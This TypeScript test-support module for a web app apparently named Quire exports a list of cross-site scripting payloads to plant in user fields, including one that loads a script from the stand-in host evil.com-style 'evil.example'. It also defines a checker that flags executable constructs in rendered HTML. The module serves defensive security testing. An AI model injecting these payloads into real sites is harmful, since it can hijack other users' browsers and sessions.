/**
 * @module Test support: classic XSS payloads to plant in user-supplied fields, and a check
 * that rendered HTML holds no executable construct. Shared by the page tests and the
 * browser tests (which can also assert nothing ran).
 */

/**
 * Payloads, each a string a paper, comment, review or agent may carry. They cover script
 * tags (case, `src`, inside SVG), `</script>` breaking out of an inline JSON block, event
 * handlers, `javascript:` / `vbscript:` / `data:` URLs in HTML and in Markdown (case,
 * whitespace, control characters, entity-encoded schemes, angle-bracket destinations,
 * autolinks), attribute-breaking quotes, SVG, iframes, objects, styles and CSS
 * expressions, meta refresh, base, forms, mutation-XSS nesting and template syntax.
 */
export const XSS_PAYLOADS: readonly string[] = [
  "<script>alert(1)</script>",
  "<ScRiPt>alert(1)</sCrIpT>",
  "<script src=//evil.example/x.js></script>",
  "</script><script>alert(1)</script>",
  "</SCRIPT ><script>alert(1)</script>",
  "<!--</script><script>alert(1)//-->",
  "<img src=x onerror=alert(1)>",
  '<img src="x" onerror="alert(1)">',
  "<svg onload=alert(1)>",
  "<svg/onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<body onload=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<input onfocus=alert(1) autofocus>",
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="&#x6A;avascript:alert(1)">click</a>',
  '<a href="jav&#x09;ascript:alert(1)">click</a>',
  "[click](javascript:alert(1))",
  "[click](JaVaScRiPt:alert(1))",
  "[click](<javascript:alert(1)>)",
  "[click](&#106;avascript:alert(1))",
  "[click](&#x6A;&#x61;vascript:alert(1))",
  "[click](javascript&colon;alert(1))",
  "[click](java\tscript:alert(1))",
  "![image](javascript:alert(1))",
  "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "![image](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
  "[click](vbscript:msgbox(1))",
  "[click](VBScript:msgbox(1))",
  "<javascript:alert(1)>",
  "<vbscript:msgbox(1)>",
  '" onmouseover="alert(1)',
  "' onfocus='alert(1)' autofocus='",
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '<style>body{background:url("javascript:alert(1)")}</style>',
  '<div style="width: expression(alert(1))">x</div>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "{{constructor.constructor('alert(1)')()}}",
];

/** Schemes that execute or smuggle content when followed or loaded. */
const BAD_SCHEME = /^(?:javascript|vbscript|data|livescript|mocha):/i;
/** Attributes whose value is a URL the browser follows or loads. */
const URL_ATTRIBUTES = new Set([
  "href",
  "src",
  "action",
  "formaction",
  "xlink:href",
  "data",
  "poster",
  "background",
  "srcset",
  "ping",
  "codebase",
  "cite",
]);
/** Elements that never belong in a Quire page (they run, embed or restyle content). */
const FORBIDDEN_ELEMENTS = new Set([
  "iframe",
  "frame",
  "frameset",
  "object",
  "embed",
  "applet",
  "svg",
  "style",
  "base",
  "template",
  "portal",
]);

const MATHML_NS = "http://www.w3.org/1998/Math/MathML";

/**
 * The presentation MathML elements KaTeX writes (its `output: "mathml"`). Inside `<math>`,
 * nothing else may appear: another element there (`<mglyph>`, `<style>`, an HTML element
 * reached through `<mtext>`) is the namespace confusion that mutation XSS relies on.
 */
const MATHML_ELEMENTS = new Set(
  (
    "semantics annotation mrow mi mo mn ms mtext mspace msup msub msubsup mfrac msqrt mroot " +
    "mover munder munderover mstyle mpadded mphantom menclose mtable mtr mtd mlabeledtr merror"
  ).split(" "),
);

function decodeEntities(value: string): string {
  return value
    .replace(/&#x([0-9a-f]+);?/gi, (_, hex: string) =>
      String.fromCodePoint(Number.parseInt(hex, 16)),
    )
    .replace(/&#(\d+);?/g, (_, dec: string) => String.fromCodePoint(Number(dec)))
    .replace(/&colon;/gi, ":")
    .replace(/&tab;/gi, "\t")
    .replace(/&newline;/gi, "\n")
    .replace(/&quot;/g, '"')
    .replace(/&#39;|&apos;/g, "'")
    .replace(/&lt;/g, "<")
    .replace(/&gt;/g, ">")
    .replace(/&amp;/g, "&");
}

/** A URL as the browser reads its scheme: entities decoded, whitespace and controls dropped. */
function schemeView(value: string): string {
  // biome-ignore lint/suspicious/noControlCharactersInRegex: browsers drop them from schemes
  return decodeEntities(value).replace(/[\u0000-\u0020\u007f-\u009f]/g, "");
}

export interface HtmlOptions {
  /** Script tags the page may have: `src` values (prefix match) and `type`s of data blocks. */
  allowedScriptSrc?: string[];
  allowedScriptTypes?: string[];
}

/** `<link rel="icon" href="data:,">`: an empty icon, never navigated to or run. */
function inertIcon(name: string, attributes: Map<string, string>): boolean {
  const rel = (attributes.get("rel") ?? "").toLowerCase().split(/\s+/);
  const href = attributes.get("href") ?? "";
  return name === "link" && rel.includes("icon") && /^data:(?:image\/[a-z+.-]+)?[,;]/i.test(href);
}

const TAG =
  /<(\/?)([a-zA-Z][a-zA-Z0-9:-]*)((?:\s+[^\s"'>/=]+(?:\s*=\s*(?:"[^"]*"|'[^']*'|[^\s"'=<>`]+))?)*)\s*\/?>/g;
const ATTRIBUTE = /([^\s"'>/=]+)(?:\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s"'=<>`]+)))?/g;

/**
 * Every executable construct in a page, described; empty when there is none. Sound for
 * Quire's output, where every user-supplied character is escaped or passed through the
 * Markdown sanitiser, so each `<` that starts a tag is the server's own: it lists script
 * elements other than the allowed ones (and any whose content is not a JSON data block
 * that parses), event-handler and `style` attributes, URL attributes with an executable
 * scheme (after entity decoding and whitespace removal, as browsers do), forbidden
 * elements (MathML only in KaTeX's form: the MathML namespace and its presentation
 * elements), meta refresh, and comments or stray markup-declaration openers.
 */
export function executableConstructs(html: string, options: HtmlOptions = {}): string[] {
  const allowedSrc = options.allowedScriptSrc ?? ["/assets/site.js"];
  const allowedTypes = options.allowedScriptTypes ?? ["application/ld+json"];
  const problems: string[] = [];
  const body = html.replace(/^<!doctype html>/i, "");
  if (/<!/.test(body)) problems.push("a comment or markup declaration (<!)");
  if (/<\?/.test(body)) problems.push("a processing instruction (<?)");
  let inMath = false;
  for (const tag of body.matchAll(TAG)) {
    const closing = tag[1] === "/";
    const name = (tag[2] ?? "").toLowerCase();
    if (name === "math") inMath = !closing;
    if (closing) continue;
    const attributes = new Map<string, string>();
    for (const a of (tag[3] ?? "").matchAll(ATTRIBUTE)) {
      attributes.set((a[1] ?? "").toLowerCase(), a[2] ?? a[3] ?? a[4] ?? "");
    }
    if (FORBIDDEN_ELEMENTS.has(name)) problems.push(`<${name}> element`);
    if (name === "math" && attributes.get("xmlns") !== MATHML_NS) {
      problems.push("<math> element not in KaTeX's form");
    }
    if (inMath && name !== "math" && !MATHML_ELEMENTS.has(name)) {
      problems.push(`<${name}> element inside <math>`);
    }
    for (const [attr, value] of attributes) {
      if (attr.startsWith("on")) problems.push(`event handler ${attr} on <${name}>`);
      if (attr === "style") problems.push(`style attribute on <${name}>`);
      if (attr === "srcdoc") problems.push(`srcdoc on <${name}>`);
      if (
        URL_ATTRIBUTES.has(attr) &&
        BAD_SCHEME.test(schemeView(value)) &&
        !inertIcon(name, attributes)
      ) {
        problems.push(`${attr}="${value}" on <${name}>`);
      }
    }
    if (name === "meta" && attributes.has("http-equiv")) {
      problems.push(`<meta http-equiv="${attributes.get("http-equiv")}">`);
    }
    if (name === "script") {
      const src = attributes.get("src");
      const type = attributes.get("type");
      if (src !== undefined) {
        if (!allowedSrc.some((prefix) => src.startsWith(prefix))) {
          problems.push(`script src="${src}"`);
        }
      } else if (type === undefined || !allowedTypes.includes(type)) {
        problems.push(`inline script${type ? ` type="${type}"` : ""}`);
      } else {
        const start = (tag.index ?? 0) + tag[0].length;
        const end = body.toLowerCase().indexOf("</script", start);
        const content = end < 0 ? body.slice(start) : body.slice(start, end);
        try {
          JSON.parse(content);
        } catch {
          problems.push("a data block that is not JSON (broken out of?)");
        }
      }
    }
  }
  const starts = (body.match(/<[a-zA-Z]/g) ?? []).length;
  const parsed = [...body.matchAll(TAG)].filter((t) => t[1] !== "/").length;
  if (starts !== parsed) problems.push(`${starts - parsed} tag(s) this check cannot parse`);
  const opened = (body.match(/<script\b/gi) ?? []).length;
  const closed = (body.match(/<\/script\s*>/gi) ?? []).length;
  if (opened !== closed) problems.push(`${opened} <script> opened, ${closed} closed`);
  return problems;
}
